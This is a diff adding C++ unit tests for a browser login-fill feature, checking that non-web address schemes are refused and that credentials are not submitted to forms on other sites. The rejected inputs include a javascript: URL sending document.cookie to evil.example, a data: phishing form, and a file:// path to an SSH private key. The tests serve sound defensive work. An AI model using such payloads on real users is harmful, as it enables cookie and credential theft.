@@ -10,6 +10,7 @@
 
 #include "core/browser/browser_command_state.h"
 #include "core/browser/browser_commands.h"
+#include "core/browser/login_fill_text.h"
 #include "core/cards/card.h"
 #include "core/cards/card_collection.h"
 #include "core/commands/command_ids.h"
@@ -93,11 +94,19 @@ public:
     }
     // What the page's login form comes to.
     LoginFillReport fillReport{LoginFillStatus::Filled, LoginOriginCheck::Match};
+    // Taken before fillReport, one per fill, while there are any.
+    std::vector<LoginFillReport> nextReports;
     PageLoginForm form;
     LoginFillReport FillLoginForm(const LoginFillRequest& r) override {
         log_.calls.push_back("fill " + r.cardAddress + " " + r.userId + ":" + r.password +
-                             (r.submit ? " submit" : ""));
-        return running ? fillReport : LoginFillReport{};
+                             (r.submit ? " submit" : "") + (r.userStep ? "" : " password page"));
+        if (!running)
+            return LoginFillReport{};
+        if (nextReports.empty())
+            return fillReport;
+        const LoginFillReport report = nextReports.front();
+        nextReports.erase(nextReports.begin());
+        return report;
     }
     PageLoginForm ReadLoginForm(bool withPassword) override {
         log_.calls.push_back(withPassword ? "read form with password" : "read form");
@@ -458,6 +467,129 @@ TEST_F(BrowserCommandsTest, LoadWebPageFillsTheLoginFormAndSaysWhatCameOfIt) {
     const CCard noLogin = MakeCard(CardFields{.address = "https://forms.example/"});
     EXPECT_EQ(commands.LoadWebPage(&noLogin), "");
     EXPECT_EQ(log.calls, Calls{"navigate https://forms.example/ same"});
+}
+
+// A card address of another scheme than http or https is never handed to a browser,
+// whatever route is open: the status bar says why.
+TEST_F(BrowserCommandsTest, LoadWebPageRefusesAddressesThatAreNoWebPages) {
+    const char* addresses[] = {
+        "javascript:alert(document.cookie)",
+        "JavaScript:fetch('//evil.example/?'+document.cookie)",
+        "data:text/html,<form action=https://evil.example><input type=password></form>",
+        "file:///home/joe/.ssh/id_ed25519",
+        "vbscript:msgbox(1)",
+        "chrome://settings/passwords",
+        "view-source:https://bank.example/",
+        "blob:https://bank.example/0b1c",
+        "about:blank",
+        "mailto:joe@example.org",
+    };
+    for (const bool running : {false, true}) {
+        automation.running = running;
+        for (const char* address : addresses) {
+            log.calls.clear();
+            const CCard card = MakeCard(CardFields{.code = 4,
+                                                   .address = address,
+                                                   .user = "me",
+                                                   .password = "pw",
+                                                   .attributes = CCard::kAutomaticAccessBit});
+            EXPECT_EQ(commands.LoadWebPage(&card), kStatusNotWebAddress) << address;
+            EXPECT_EQ(log.calls, Calls{}) << address;
+        }
+    }
+    // Web addresses in any case of their scheme still open.
+    log.calls.clear();
+    const CCard web = MakeCard(CardFields{.address = "HTTPS://bank.example/"});
+    EXPECT_EQ(commands.LoadWebPage(&web), "");
+    EXPECT_EQ(log.calls, Calls{"navigate HTTPS://bank.example/ same"});
+    EXPECT_TRUE(ui.shown.empty());
+}
+
+// What the status bar says about a fill that went only part of the way.
+TEST_F(BrowserCommandsTest, StatusTextsSayWhatWentInAndWhyNothingWasSent) {
+    auto report = [](LoginFillStatus status, bool userOnly, bool newForm, bool password,
+                     std::string target) {
+        LoginFillReport r{status, LoginOriginCheck::Match};
+        r.userOnly = userOnly;
+        r.newPasswordForm = newForm;
+        r.passwordFilled = password;
+        r.refusedTarget = std::move(target);
+        return r;
+    };
+    using S = LoginFillStatus;
+    const std::pair<LoginFillReport, std::string> cases[] = {
+        {report(S::Filled, false, false, true, "https://evil.example/collect?x=1"),
+         "Filled, not submitted: the form sends to another site (https://evil.example)."},
+        {report(S::Filled, false, false, true, "http://127.0.0.1:8080/x"),
+         "Filled, not submitted: the form sends to another site (http://127.0.0.1:8080)."},
+        {report(S::Filled, false, false, true, "javascript:steal()"),
+         "Filled, not submitted: the form sends to another site (javascript:)."},
+        {report(S::Filled, true, false, false, "https://evil.example:444/"),
+         "User ID filled, not submitted: the form sends to another site "
+         "(https://evil.example:444)."},
+        {report(S::Filled, true, false, false, ""), kStatusUserIdFilled},
+        {report(S::Submitted, true, false, false, ""), kStatusUserIdSubmitted},
+        {report(S::Filled, false, true, true, ""), kStatusCurrentPasswordOnly},
+        {report(S::Filled, false, true, false, ""), kStatusNewPasswordFormNotFilled},
+        {report(S::Filled, false, false, true, ""), kStatusLoginFilled},
+        {report(S::Submitted, false, false, true, ""), kStatusLoginSubmitted},
+    };
+    automation.running = true;
+    const CCard card = MakeCard(CardFields{.address = "https://forms.example/", .user = "me"});
+    for (const auto& [r, text] : cases) {
+        automation.fillReport = r;
+        EXPECT_EQ(commands.LoadWebPage(&card), text);
+    }
+}
+
+// A user-name page: the password goes into the page that follows on the card's site, and
+// only once; the page of another site, or a new Load Web Page, gets nothing.
+TEST_F(BrowserCommandsTest, TwoStepLoginFillsThePasswordPageThatFollows) {
+    automation.running = true;
+    const CCard card = MakeCard(CardFields{.code = 4,
+                                           .address = "https://bank.example/",
+                                           .user = "joe",
+                                           .password = "pw",
+                                           .attributes = CCard::kAutomaticAccessBit});
+    profile.WriteInt(prefs::kGeneralSection, prefs::kSubmitLoginForms, 1);
+    LoginFillReport userPage{LoginFillStatus::Submitted, LoginOriginCheck::Match};
+    userPage.userOnly = true;
+    const LoginFillReport none{LoginFillStatus::NoLoginForm, LoginOriginCheck::Match};
+    const LoginFillReport filled{LoginFillStatus::Submitted, LoginOriginCheck::Match};
+
+    EXPECT_FALSE(commands.LoginPending());
+    EXPECT_EQ(commands.FillPendingLogin(), "");
+    automation.nextReports = {userPage};
+    EXPECT_EQ(commands.LoadWebPage(&card), kStatusUserIdSubmitted);
+    EXPECT_TRUE(commands.LoginPending());
+
+    log.calls.clear();
+    automation.url = "https://evil.example/password";
+    EXPECT_EQ(commands.FillPendingLogin(), "");  // another site: not even tried
+    automation.url = "https://bank.example/username";
+    automation.nextReports = {none};
+    EXPECT_EQ(commands.FillPendingLogin(), "");  // no password field yet
+    EXPECT_TRUE(commands.LoginPending());
+    automation.url = "https://bank.example/password";
+    automation.nextReports = {filled};
+    EXPECT_EQ(commands.FillPendingLogin(), kStatusLoginSubmitted);
+    EXPECT_FALSE(commands.LoginPending());
+    EXPECT_EQ(commands.FillPendingLogin(), "");
+    EXPECT_EQ(log.calls,
+              (Calls{"url", "url", "fill https://bank.example/ joe:pw submit password page", "url",
+                     "fill https://bank.example/ joe:pw submit password page"}));
+
+    // A full login form, or another Load Web Page, ends the wait.
+    automation.nextReports = {userPage};
+    EXPECT_EQ(commands.LoadWebPage(&card), kStatusUserIdSubmitted);
+    automation.nextReports = {filled};
+    EXPECT_EQ(commands.LoadWebPage(&card), kStatusLoginSubmitted);
+    EXPECT_FALSE(commands.LoginPending());
+    automation.nextReports = {userPage};
+    EXPECT_EQ(commands.LoadWebPage(&card), kStatusUserIdSubmitted);
+    const CCard other = MakeCard(CardFields{.address = "https://other.example/"});
+    commands.LoadWebPage(&other);
+    EXPECT_FALSE(commands.LoginPending());
 }
 
 class FillLoginTest : public BrowserCommandsTest {
